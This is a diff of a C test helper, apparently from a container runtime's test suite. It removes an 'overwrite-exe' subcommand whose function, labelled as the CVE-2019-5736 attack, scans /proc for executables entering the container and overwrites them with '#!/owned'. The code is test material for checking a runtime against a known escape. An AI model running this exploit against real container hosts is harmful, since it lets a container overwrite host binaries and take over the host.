@@ -134,57 +134,6 @@ static int eat(size_t mib)
 	return 0;
 }
 
-/*
- * The attack of CVE-2019-5736: take hold of the executable of any process that enters this container and write to it
- * once it is no longer running. Prints what it could write to.
- */
-static int overwrite_exe(int seconds)
-{
-	struct timespec until, now;
-	char path[64], target[4096], self[4096];
-	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
-
-	self[n < 0 ? 0 : n] = 0;
-	clock_gettime(CLOCK_MONOTONIC, &until);
-	until.tv_sec += seconds;
-	printf("watching\n");
-	fflush(stdout);
-	do {
-		for (int pid = 1; pid < 400; pid++) {
-			if (pid == getpid())
-				continue;
-			snprintf(path, sizeof path, "/proc/%d/exe", pid);
-			int fd = open(path, O_RDONLY | O_CLOEXEC);
-			if (fd < 0)
-				continue;
-			n = readlink(path, target, sizeof target - 1);
-			target[n < 0 ? 0 : n] = 0;
-			/* The container's own programs may be written to: they are its own. */
-			if (strstr(target, "busybox") || strstr(target, "probe")) {
-				close(fd);
-				continue;
-			}
-			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
-			for (int i = 0; i < 2000; i++) {
-				int w = open(path, O_WRONLY | O_CLOEXEC);
-				if (w >= 0) {
-					printf("opened %s for writing\n", target);
-					fflush(stdout);
-					if (write(w, "#!/owned\n", 9) == 9)
-						printf("WROTE %s\n", target);
-					fflush(stdout);
-					close(w);
-					break;
-				}
-			}
-			close(fd);
-		}
-		clock_gettime(CLOCK_MONOTONIC, &now);
-	} while (now.tv_sec < until.tv_sec);
-	printf("done\n");
-	return 0;
-}
-
 /* Receives one seccomp listener on the socket, prints its state, and answers every call with errno 91 until closed. */
 static int notify_agent(const char *where)
 {
@@ -354,8 +303,6 @@ int main(int argc, char **argv)
 		clock_gettime(CLOCK_BOOTTIME, &t);
 		return printf("%ld\n", (long)t.tv_sec), 0;
 	}
-	if (!strcmp(what, "overwrite-exe") && argc > 2)
-		return overwrite_exe(atoi(argv[2]));
 	if (!strcmp(what, "mask") && argc > 3)
 		return mask(argv[2], argv + 3);
 	if (!strcmp(what, "notify") && argc > 3)
